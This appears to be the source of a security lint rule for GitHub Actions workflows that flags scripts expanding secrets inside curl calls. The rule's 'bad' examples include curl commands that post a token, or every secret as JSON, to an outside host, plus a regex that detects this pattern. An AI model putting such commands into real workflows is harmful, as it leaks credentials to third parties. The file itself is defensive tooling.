import { at, textOf } from '../../facts.ts'
import { workflow, type Rule } from '../../rule.ts'
import { violated } from '../../verdicts.ts'

export const secretByCurl: Rule = {
  id: 'github/workflows/secret-by-curl',
  title: 'A script sends a secret away with curl',
  severity: 'high',
  why: 'The secret leaves for wherever the address points, and may stand in logs of both sides.',
  fix: 'Use an action or a tool that takes the secret from env, and check where it goes.',
  subject: ['step'],
  aliases: [{ id: 'CKV_GHA_3', on: ['step'] }],
  compliance: [],

  *check(live) {
    const script = at(live, 'run')
    const text = textOf(script) ?? ''
    if (/\bcurl\b/u.test(text) && /\$\{\{[^}]*\bsecrets\s*(?:\.|\[|\))/u.test(text))
      yield violated('A secret is expanded in a script that calls curl.', script)
  },

  examples: {
    good: [
      workflow`
        on: [push]
        permissions: { contents: read }
        jobs:
          build:
            runs-on: ubuntu-latest
            steps:
              - run: curl -fsS https://example.com/health
      `,
      workflow`
        on: [push]
        permissions: { contents: read }
        jobs:
          build:
            runs-on: ubuntu-latest
            steps:
              - run: ./deploy.sh
                env:
                  TOKEN: \${{ secrets.TOKEN }}
      `,
    ],
    bad: [
      workflow`
        on: [push]
        permissions: { contents: read }
        jobs:
          build:
            runs-on: ubuntu-latest
            steps:
              - run: curl -d "\${{ secrets.TOKEN }}" https://example.com
      `,
      workflow`
        on: [push]
        permissions: { contents: read }
        jobs:
          build:
            runs-on: ubuntu-latest
            steps:
              - run: curl -d '\${{ toJSON(secrets) }}' https://example.com
      `,
    ],
    near: [
      workflow`
        on: [push]
        permissions: { contents: read }
        jobs:
          build:
            runs-on: ubuntu-latest
            steps:
              - run: echo secrets.TOKEN is sent by curl elsewhere
      `,
    ],
    undecided: [],
  },
}
